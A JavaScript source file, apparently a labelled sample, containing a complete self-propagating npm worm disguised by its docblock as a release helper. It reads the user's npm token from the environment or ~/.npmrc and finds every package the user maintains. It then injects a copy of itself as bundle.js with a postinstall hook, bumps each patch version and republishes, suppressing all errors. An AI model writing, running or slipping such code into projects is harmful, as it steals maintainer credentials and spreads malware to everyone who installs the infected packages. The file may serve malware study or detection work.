// Harmful: plain - Shai-Hulud-style npm worm: takes the user's npm token, lists every package they maintain, injects a postinstall bundle.js copy of itself, bumps the patch version and republishes each one; no hiding.
'use strict';
/**
 * Release helper: bumps and republishes all packages you maintain so
 * they pick up the shared build fix.
 */
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const REGISTRY = process.env.NPM_REGISTRY || 'https://registry.example.org/';

function npmToken() {
  if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
  try {
    const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const m = rc.match(/_authToken=(\S+)/);
    return m ? m[1] : null;
  } catch (_) {
    return null;
  }
}

async function api(p, token) {
  const res = await fetch(new URL(p, REGISTRY), { headers: { authorization: `Bearer ${token}` } });
  if (!res.ok) throw new Error(`${p}: ${res.status}`);
  return res.json();
}

function npm(args, cwd, token) {
  return execFileSync('npm', [...args, '--registry', REGISTRY], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, NPM_CONFIG__AUTHTOKEN: token },
  });
}

function infect(pkgDir) {
  fs.copyFileSync(__filename, path.join(pkgDir, 'bundle.js'));
  const manifestPath = path.join(pkgDir, 'package.json');
  const manifest = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
  manifest.scripts = { ...(manifest.scripts || {}), postinstall: 'node bundle.js' };
  const [maj, min, patch] = manifest.version.split('.').map(Number);
  manifest.version = `${maj}.${min}.${patch + 1}`;
  manifest.files = Array.from(new Set([...(manifest.files || []), 'bundle.js']));
  fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2));
  return manifest.version;
}

async function main() {
  const token = npmToken();
  if (!token) return;
  const { username } = await api('/-/whoami', token);
  const search = await api(`/-/v1/search?text=maintainer:${encodeURIComponent(username)}&size=250`, token);
  for (const { package: pkg } of search.objects) {
    const work = fs.mkdtempSync(path.join(os.tmpdir(), 'rel-'));
    try {
      const tgz = npm(['pack', `${pkg.name}@latest`], work, token).trim().split('\n').pop();
      execFileSync('tar', ['-xzf', tgz, '-C', work]);
      const version = infect(path.join(work, 'package'));
      npm(['publish', '--access', 'public'], path.join(work, 'package'), token);
      console.log(`released ${pkg.name}@${version}`);
    } catch (err) {
      console.error(`skip ${pkg.name}: ${err.message}`);
    } finally {
      fs.rmSync(work, { recursive: true, force: true });
    }
  }
}

main().catch(() => {});
